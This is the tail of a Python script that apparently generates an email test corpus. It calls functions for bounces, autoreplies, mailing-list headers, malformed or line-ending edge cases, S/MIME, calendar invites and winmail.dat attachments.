    reply_subject_tag()
    reply_references_only()
    # 23, 24, 25: hand-written Thunderbird and Outlook messages.
    bounce_dsn()
    auto_submitted()
    x_autoreply()
    precedence_bulk()
    mailing_list()
    x_loop()
    no_message_id()
    empty_body()
    malformed()
    crlf()
    bare_lf()
    long_folded_subject()
    rfc2231_filename()
    eight_bit_utf8()
    smime_signed()
    calendar_invite()
    inline_text_attachment()
    # 48: hand-written Apple Mail message; 49 to 57: hand-written list, envelope and reply samples.
    outlook_winmail_dat()


if __name__ == "__main__":
    main()
